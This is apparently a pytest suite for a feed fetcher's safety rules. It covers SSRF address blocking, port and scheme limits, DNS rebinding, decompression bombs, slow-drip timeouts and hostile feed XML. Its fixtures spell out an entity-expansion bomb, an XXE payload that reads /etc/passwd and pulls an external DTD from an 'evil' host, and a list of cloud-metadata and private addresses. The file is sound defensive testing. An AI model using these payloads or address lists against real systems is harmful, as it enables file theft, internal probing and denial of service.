"""Etiquette, safety: what newsfold does not ask for, does not read, and does not take for an article."""

import asyncio
import gzip
import socket
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import brotli
import pytest

from schemas.records import FetchFailed, FetchRequest
from tasks import event_loop
from tasks.fetch import FetchPolicy, fetch_all
from tests.etiquette_server import FEED, Web, drip, feed_answer, item, rss, running
from tests.wire_server import Asked, answer

pytestmark = pytest.mark.suite

FORBIDDEN_ADDRESSES = {
    "loopback": ("127.0.0.1", "::1"),
    "private": ("10.1.2.3", "172.16.0.1", "192.168.1.1", "fd00::1"),
    "link-local": ("169.254.1.1", "fe80::1"),
    "multicast": ("224.0.0.1", "ff02::1"),
    "reserved": ("240.0.0.1", "0.0.0.0"),
    "cloud metadata": ("169.254.169.254", "100.100.100.200", "168.63.129.16", "fd00:ec2::254"),
    "mapped": ("::ffff:127.0.0.1", "::ffff:10.0.0.1"),
    "NAT64": ("64:ff9b::7f00:1", "64:ff9b::a00:1"),
}


@pytest.fixture
def web(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Web]:
    with running(tmp_path, monkeypatch) as web:
        yield web


def _reasons(web: Web, *urls: str) -> list[str]:
    """Polls feeds; the reasons with which they ended."""
    web.add(*urls)
    web.poll()
    return [web.feed(url)["last_reason"] for url in urls]


def _entries(web: Web, *urls: str) -> list[dict[str, Any]]:
    """Works off pages that a feed lists; their entries."""
    web.route("/feed", feed_answer(rss(*(item(number, url) for number, url in enumerate(urls)))))
    web.add(FEED)
    web.poll()
    web.ingest()
    return [web.entry(url) for url in urls]


def test_http_and_https_only(web: Web) -> None:
    """http(s) only"""
    web.route("/r", answer(302, b"", ("Location", "file:///etc/passwd")))
    web.route("/s", answer(302, b"", ("Location", "ftp://a.example/x")))
    reasons = _reasons(
        web, "ftp://a.example/feed", "file:///etc/passwd", "gopher://a.example/", "http://a.example/r", "http://a.example/s"
    )
    assert reasons == ["bad_url"] * 5
    assert sorted(web.server.paths()) == ["/r", "/s"]


def test_ports_80_443_8080_8443_by_default(web: Web) -> None:
    """ports 80/443/8080/8443 by default"""
    assert FetchPolicy().ports == frozenset({80, 443, 8080, 8443})
    web.route("/r", answer(302, b"", ("Location", "http://news.invalid:25/")))
    reasons = _reasons(
        web, "http://news.invalid:22/", "http://news.invalid:6379/", "https://news.invalid:8444/", "http://a.example/r"
    )
    assert reasons == ["forbidden_port"] * 4


def test_the_address_is_checked_when_the_socket_connects(web: Web, monkeypatch: pytest.MonkeyPatch) -> None:
    """the address is checked when the socket connects (after DNS, on every redirect)"""
    real = socket.getaddrinfo
    addresses = [address for group in FORBIDDEN_ADDRESSES.values() for address in group]
    names = {f"n{number}.test": address for number, address in enumerate(addresses)}
    looked_up: list[str] = []

    def lying(host: Any, *more: Any, **options: Any) -> Any:
        name = host.decode() if isinstance(host, bytes) else str(host)
        looked_up.append(name)
        return real(names.get(name, host), *more, **options)

    monkeypatch.setattr(socket, "getaddrinfo", lying)
    web.tune(ports=frozenset({80, web.server.port}), retries=0)
    web.route("/r", answer(302, b"", ("Location", f"http://n0.test:{web.server.port}/feed")))
    urls = [f"http://{name}:{web.server.port}/feed" for name in names]
    assert _reasons(web, *urls, "http://a.example/r") == ["forbidden_address"] * (len(urls) + 1)
    assert web.server.paths() == ["/r"]
    assert set(names) <= set(looked_up)


def test_forbidden_addresses_are_refused_as_they_stand(web: Web) -> None:
    """loopback, private, link-local, multicast, reserved, cloud metadata and IPv4-mapped/NAT64 forms are refused"""
    addresses = [address for group in FORBIDDEN_ADDRESSES.values() for address in group]
    hosts = [f"[{address}]" if ":" in address else address for address in addresses]
    assert _reasons(web, *(f"http://{host}/feed" for host in hosts)) == ["forbidden_address"] * len(hosts)
    for number, host in enumerate(hosts):
        web.route(f"/r{number}", answer(302, b"", ("Location", f"http://{host}/secret")))
    found = _entries(web, *(f"http://a.example/r{number}" for number in range(len(hosts))))
    assert {(entry["state"], entry["reason"]) for entry in found} == {("refused", "forbidden_address")}


def test_dns_is_asked_once_so_that_nothing_changes_between_check_and_connect(web: Web) -> None:
    """the address is checked when the socket connects (after DNS"""
    asked: list[str] = []

    def rebinding(host: str, port: int) -> list[str]:
        asked.append(host)
        return ["192.0.2.1"] if len(asked) == 1 else ["127.0.0.1"]

    request = FetchRequest(1, f"http://rebind.test:{web.server.port}/", "feed")
    policy = FetchPolicy(retries=0, ports=frozenset({web.server.port}))
    (outcome,) = event_loop.run(fetch_all([request], policy, resolve=rebinding))
    assert isinstance(outcome, FetchFailed) and outcome.reason == "forbidden_address"
    assert asked == ["rebind.test"] and not web.server.asked


def test_a_setting_allows_a_host(web: Web) -> None:
    """unless a setting allows a host (the tests' own server)."""
    web.route("/feed", feed_answer())
    web.use(host_map=f"a.example=127.0.0.1:{web.server.port}")
    web.tune(retries=0)
    assert _reasons(web, FEED, f"http://127.0.0.1:{web.server.port}/feed") == ["new_body", "forbidden_address"]
    assert web.server.paths() == ["/feed"]


def test_sizes_are_limited_on_the_wire(web: Web) -> None:
    """Size limits on the wire"""

    async def endless(asked: Asked, writer: asyncio.StreamWriter) -> None:
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n")
        while True:
            writer.write(b"x" * 65536)
            await writer.drain()

    web.route("/endless", endless)
    web.route("/big", feed_answer(b"<rss>" + b"x" * 3_000_000))
    web.tune(max_feed_bytes=2_000_000, max_page_bytes=2_000_000, max_wire_bytes=2_000_000)
    assert _reasons(web, "http://a.example/endless", "http://b.example/big") == ["too_large"] * 2
    (entry,) = _entries(web, "http://c.example/endless")
    assert (entry["state"], entry["reason"]) == ("quarantined", "too_large")
    defaults = FetchPolicy()
    assert 0 < defaults.max_wire_bytes <= 20 * 2**20 and 0 < defaults.max_page_bytes <= 20 * 2**20


def test_sizes_are_limited_after_decompression(web: Web) -> None:
    """and after decompression (gzip/br bombs)"""
    zeros = b"\0" * 60_000_000
    bombs = {"gzip": gzip.compress(zeros), "br": brotli.compress(zeros, quality=4)}
    bombs["gzip, gzip"] = gzip.compress(bombs["gzip"])
    urls = []
    for number, (coding, body) in enumerate(bombs.items()):
        assert len(body) < 100_000
        web.route(f"/{number}", answer(200, body, ("Content-Type", "text/html"), ("Content-Encoding", coding)))
        urls.append(f"http://{'abcd'[number]}.example/{number}")
    assert _reasons(web, *urls) == ["too_large"] * len(bombs)
    assert {entry["reason"] for entry in _entries(web, *urls)} == {"too_large"}


def test_headers_are_limited(web: Web) -> None:
    """header limits"""

    async def endless(asked: Asked, writer: asyncio.StreamWriter) -> None:
        writer.write(b"HTTP/1.1 200 OK\r\n")
        while True:
            writer.write(b"X-Header: " + b"y" * 1000 + b"\r\n")
            await writer.drain()

    web.route("/headers", endless)
    web.route("/long", b"HTTP/1.1 200 OK\r\nX-Long: " + b"y" * 2_000_000 + b"\r\n\r\n")
    web.tune(retries=0)
    assert _reasons(web, "http://a.example/headers", "http://b.example/long") == ["protocol"] * 2


def test_connect_read_and_total_time_are_limited(web: Web) -> None:
    """connect/read/total timeouts (slow drip)"""

    async def silent(asked: Asked, writer: asyncio.StreamWriter) -> None:
        await asyncio.sleep(30)

    web.route("/drip", drip)
    web.route("/silent", silent)
    web.use(timeout_seconds=1.0)
    web.tune(retries=0)
    started = time.monotonic()
    assert _reasons(web, "http://a.example/drip", "http://b.example/silent") == ["timeout"] * 2
    web.use(timeout_seconds=60.0)
    web.tune(retries=0, read_timeout=0.5)
    assert _reasons(web, "http://c.example/silent") == ["timeout"]
    assert time.monotonic() - started < 25
    assert FetchPolicy().connect_timeout <= 30


@pytest.mark.parametrize("said", ["honest", "text/html"])
def test_a_pdf_video_or_image_is_a_terminal_state_not_an_article(web: Web, said: str) -> None:
    """content-type sniffing: a PDF, video or image is a terminal state, not an article."""
    bodies = {
        "application/pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + b"1 0 obj " * 200,
        "video/mp4": b"\0\0\0\x20ftypisom" + b"\0\1\2\3" * 500,
        "image/png": b"\x89PNG\r\n\x1a\n" + b"\0\1\2\3" * 500,
        "image/jpeg": b"\xff\xd8\xff\xe0\0\x10JFIF" + b"\0\1\2\3" * 500,
    }
    for number, (kind, body) in enumerate(bodies.items()):
        web.route(f"/{number}", answer(200, body, ("Content-Type", kind if said == "honest" else said)))
    urls = [f"http://a.example/{number}" for number in range(len(bodies))]
    endings = [(entry["state"], entry["reason"]) for entry in _entries(web, *urls)]
    assert endings == [("not_an_article", "not_html")] * len(bodies)
    asked = len(web.asked())
    web.ingest()
    assert len(web.asked()) == asked
    assert web.rows("SELECT count(*) AS n FROM articles") == [{"n": 0}]


def _hostile() -> dict[str, bytes]:
    names = "".join(f'<!ENTITY e{number} "{f"&e{number - 1};" * 10}">' for number in range(1, 10))
    start, end = '<?xml version="1.0"?><!DOCTYPE r [', "</title></channel></rss>"
    bomb = f'{start}<!ENTITY e0 "lol">{names}]><rss version="2.0"><channel><title>&e9;{end}'
    away = '<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "http://d.example/evil.dtd">%y;'
    outside = f'{start}{away}]><rss version="2.0"><channel><item><title>&x;</title></item><title>&x;{end}'
    return {
        "bomb": bomb.encode(),
        "outside": outside.encode(),
        "deep": b"<rss><channel>" + b"<a>" * 100_000,
        "line": rss(f"<item><title>{'x' * 2_000_000}</title></item>"),
        "nuls": rss(item()).replace(b"A feed", b"\0\0A \0feed\0"),
        "lying": '<?xml version="1.0" encoding="utf-16"?><rss><channel><title>é</title></channel></rss>'.encode("latin-1"),
        "cut": rss(*(item(number) for number in range(50)))[:-900],
    }


def test_hostile_xml_harms_no_other_feed(web: Web) -> None:
    """Feed XML: entity bombs, external entities, deep nesting, megabyte lines, NULs, lying encodings"""
    hostile = _hostile()
    for name, body in hostile.items():
        web.route(f"/{name}", feed_answer(body))
    web.route("/good", feed_answer(rss(item(1), item(2))))
    web.route("/fine", feed_answer(rss(item(3))))
    web.add("http://a.example/good", *(f"http://b.example/{name}" for name in hostile), "http://c.example/fine")
    started = time.monotonic()
    web.poll()
    assert time.monotonic() - started < 60
    assert web.feed("http://a.example/good")["last_reason"] == web.feed("http://c.example/fine")["last_reason"] == "new_body"
    assert "/evil.dtd" not in web.server.paths()
    stored = repr(web.rows("SELECT * FROM feeds")) + repr(web.rows("SELECT * FROM entries"))
    assert "root:" not in stored and "lollollol" not in stored
    for name in hostile:
        assert web.feed(f"http://b.example/{name}")["last_reason"] is not None
        assert web.feed(f"http://b.example/{name}")["next_poll_at"] is not None


def test_a_feed_that_can_not_be_read_has_a_clear_error(web: Web) -> None:
    """a clear error on the feed, the other feeds unharmed."""
    bodies = {
        "bomb": _hostile()["bomb"],
        "html": b"<!doctype html><html><body><p>hello</p></body></html>",
        "noise": bytes(range(256)) * 40,
    }
    for name, body in bodies.items():
        web.route(f"/{name}", feed_answer(body))
    web.route("/good", feed_answer())
    web.add("http://a.example/good", *(f"http://b.example/{name}" for name in bodies))
    web.poll()
    for name in bodies:
        row = web.feed(f"http://b.example/{name}")
        assert row["last_reason"] in ("broken_feed", "html_instead_of_feed", "bad_encoding", "parse_timeout", "too_large")
        assert row["failures"] == 1 and len(row["last_detail"]) > 10
    assert web.feed("http://a.example/good")["last_reason"] == "new_body"
